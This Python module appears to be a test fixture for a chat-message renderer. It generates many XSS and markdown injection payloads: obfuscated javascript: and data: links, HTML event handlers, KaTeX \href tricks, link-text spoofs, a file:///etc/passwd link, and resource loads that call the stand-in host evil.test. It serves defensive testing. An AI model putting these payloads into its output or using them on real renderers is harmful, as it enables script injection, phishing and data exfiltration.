# ruff: noqa: E501 (what is attacked with is not broken over lines)
"""Texts by which a model, or who speaks through it, might try to run a script or to carry something away."""

from __future__ import annotations

from itertools import product

SCRIPT = "document.hit=1"
SCHEMES = (
    f"javascript:{SCRIPT}", f"JaVaScRiPt:{SCRIPT}", f"java&Tab;script:{SCRIPT}", f"java&#x09;script:{SCRIPT}",
    f"java&#10;script:{SCRIPT}", f"&#106;avascript:{SCRIPT}", f"&#x6a;avascript&colon;{SCRIPT}",
    f"javascript&#0058;{SCRIPT}", f"%6aavascript:{SCRIPT}", f"javascript%3A{SCRIPT}", f"\\u0001javascript:{SCRIPT}",
    f"&#1;javascript:{SCRIPT}", f"vbscript:{SCRIPT}", f"data:text/html,<script>{SCRIPT}</script>",
    "data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC5oaXQ9MTwvc2NyaXB0Pg==", f"data:image/svg+xml,<svg onload={SCRIPT}>",
    f"blob:http://evil.test/{SCRIPT}", "file:///etc/passwd", f"//evil.test/?{SCRIPT}", "/accounts/logout/",
    f"view-source:javascript:{SCRIPT}", f"feed:javascript:{SCRIPT}", f"jar:javascript:{SCRIPT}", "ws://evil.test/",
    f"javascript://evil.test/%0a{SCRIPT}", f"http:javascript:{SCRIPT}", f"https:\\\\evil.test/{SCRIPT}", "intent://evil",
)  # fmt: skip
PLACES = (
    "[a]({})", "[a](<{}>)", '[a]({} "t")', "<{}>", "{}", "![a]({})", "[a][r]\n\n[r]: {}", "[r]\n\n[r]: <{}> 't'",
    "[![a]({0})]({0})", "| [a]({}) |\n|---|\n| ![b]({0}) |",
)  # fmt: skip
HTML = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<iframe src=javascript:{}>", "<iframe srcdoc='<script>{}</script>'>", "<body onload={}>", "<a href=javascript:{}>a</a>",
    "<details open ontoggle={}>", "<video><source onerror={}>", "<input autofocus onfocus={}>", "<style>@import 'http://evil.test';</style>",
    "<link rel=stylesheet href=http://evil.test>", "<base href=http://evil.test>", "<meta http-equiv=refresh content='0;url=http://evil.test'>",
    "<math><mtext><script>{}</script></mtext></math>", "<object data=javascript:{}>", "<embed src=http://evil.test>",
    "<form action=http://evil.test><button>a</button></form>", "<template><script>{}</script></template>",
    "<!--><script>{}</script>-->", "<noscript><p title='</noscript><img src=x onerror={}>'>", "<chat-message run=x after=0></chat-message>",
    "<sub onmouseover={}>a</sub>", "<kbd><img src=x onerror={}></kbd>", "<sup>[a](javascript:{})</sup>",
)  # fmt: skip
AROUND = ("{}", "> {}", "- {}", "**{}**", "`a` {} `b`", "# {}")
ODD = (
    '[a](https://evil.test/"onmouseover="{0})', "[a](https://x.test 'onclick={0}')", '```"><script>{0}</script>\na\n```',
    "```js onload={0}\na\n```", "~~~<img/src=x/onerror={0}>\na\n~~~", "[^<img src=x onerror={0}>]\n\n[^<img src=x onerror={0}>]: a",
    "[^a]\n\n[^a]: <script>{0}</script>", "$\\href{javascript:{0}}{a}$", "$\\url{javascript:{0}}$",
    "$$\\includegraphics{http://evil.test/p.png}$$", "$\\htmlData{onclick={0}}{a}$", "$\\htmlStyle{background:url(http://evil.test)}{a}$",
    "$\\htmlId{a}{b}$ $\\htmlClass{c}{d}$", "$\\def\\a{\\a\\a}\\a$", "$<script>{0}</script>$", "\\(<img src=x onerror={0}>\\)",
    "[a\u202e](https://evil.test/\u202egpj.exe)", "[https://bank.test](https://evil.test)", "[bank.test](https://bank.test@evil.test)",
    "![a](http://evil.test/p.png)", "![a][p]\n\n[p]: http://evil.test/q.png", "<http://evil.test/auto>", "http://evil.test/bare",
    "[a](mailto:a@b.test?cc=c@d.test&body={0})", "[a](https://evil.test/?q=" + "x" * 300 + ")", "[[[[a](javascript:{0})](javascript:{0})]]",
    "[a](javascript&#58;{0}//https://x.test)", "[a]( javascript:{0})", "[a](\tjavascript:{0})", "[`a`](javascript:{0})", "[__proto__]\n\n[__proto__]: javascript:{0}",
    "[constructor][]\n\n[constructor]: javascript:{0}", "[^__proto__]\n\n[^__proto__]: a", "- [ ] <input onfocus={0} autofocus>", "{{constructor.constructor('{0}')()}}",
)  # fmt: skip


def filled(text: str, harm: str) -> str:
    """The attack with its harm in place."""
    return text.replace("{0}", harm).replace("{}", harm)


PAYLOADS = [
    *(filled(place, scheme) for place, scheme in product(PLACES, SCHEMES)),
    *(filled(around, filled(html, SCRIPT)) for around, html in product(AROUND, HTML)),
    *(filled(odd, SCRIPT) for odd in ODD),
]
